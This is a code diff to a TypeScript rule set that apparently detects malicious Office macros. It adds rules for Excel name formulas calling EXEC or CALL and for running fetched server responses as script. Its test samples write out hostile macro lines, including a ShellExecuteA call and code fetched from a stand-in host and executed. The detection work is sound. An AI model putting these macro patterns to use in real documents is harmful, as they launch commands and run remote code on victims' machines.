@@ -94,6 +94,21 @@ export const handingOver: readonly Technique[] = [
     silent: ['Range("B9").Formula = "=SUM(B1:B8)"'],
   },
   {
+    id: 'sheet-name',
+    does: 'hands-over',
+    calls: ['add', 'evaluate'],
+    on: ['names', 'application', 'worksheet', /(?:^|\/)names$/],
+    matters: ({ name, arguments: values, named }) =>
+      name === 'evaluate' ? values.slice(0, 1) : [values[1] ?? named.get('refersto') ?? named.get('referstolocal')],
+    strength: (formula) => (/(?:^|[^a-z0-9._])(?:exec|register|call)\s*\(\s*"/.test(formula) ? 1 : 0),
+    attack: ['T1059.005'],
+    fires: [
+      'ThisWorkbook.Names.Add "q", "=EXEC(""notreal.exe"")"',
+      'ThisWorkbook.Names.Add Name:="q", RefersTo:="=CALL(""shell32"",""ShellExecuteA"",""JJCCCJJ"",0)"',
+    ],
+    silent: ['ThisWorkbook.Names.Add Name:="Rates", RefersTo:="=Sheet1!$A$1:$A$9"', 'x = Evaluate("SUM(A1:A9)")'],
+  },
+  {
     id: 'field-command',
     does: 'hands-over',
     calls: ['add'],
@@ -134,6 +149,7 @@ export const handingOver: readonly Technique[] = [
       'transformnode',
       'transformnodetoobject',
       'deserialize_2',
+      'write',
       'writeln',
     ],
     on: [
@@ -145,20 +161,27 @@ export const handingOver: readonly Technique[] = [
       '',
     ],
     matters: argument(0),
-    strength: (code, call) => {
+    strength: (code, call, around) => {
       if (call.name === 'transformnode' || call.name === 'transformnodetoobject' || call.name === 'deserialize_2')
         return 1;
-      if (call.name === 'writeln' && !code.includes('<script')) return 0;
+      if (call.name.startsWith('write') && !code.includes('<script')) return 0;
+      // What a server answers, run as it is; a server's JSON stands in brackets.
+      if (code.startsWith(HOLE) && around.fetches && /^(?:addcode|executestatement|execscript)$/.test(call.name))
+        return 1;
       const strength = strengthOfScript(code);
       return call.object?.kind === 'object' && call.object.className !== '' ? strength : strength > 0.5 ? 0.5 : 0;
     },
     attack: ['T1059.005', 'T1059.007', 'T1220'],
     fires: [
       'With CreateObject("MSScriptControl.ScriptControl")\n.Language = "VBScript"\n.AddCode ActiveDocument.Variables("code").Value\n.Run "go"\nEnd With',
+      'CreateObject("htmlfile").write "<script>new ActiveXObject(\'WScript.Shell\')</script>"',
+      'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://files.invalid/a", False\nh.Send\nCreateObject("MSScriptControl.ScriptControl").AddCode h.responseText',
+      'Set x = CreateObject("Microsoft.XMLDOM")\nx.Load "http://files.invalid/a.xsl"\nx.TransformNode x',
       'CreateObject("htmlfile").parentWindow.execScript "new ActiveXObject(\'WScript.Shell\')", "JScript"',
     ],
     silent: [
       'Set s = CreateObject("MSScriptControl.ScriptControl")\ns.Language = "JScript"\nSet o = s.Eval("(" & t & ")")',
+      'Set h = CreateObject("htmlfile")\nh.write "<table>" & t & "</table>"',
       'Set s = CreateObject("MSScriptControl.ScriptControl")\ns.AddCode "function f(a) { return a; }"',
     ],
   },
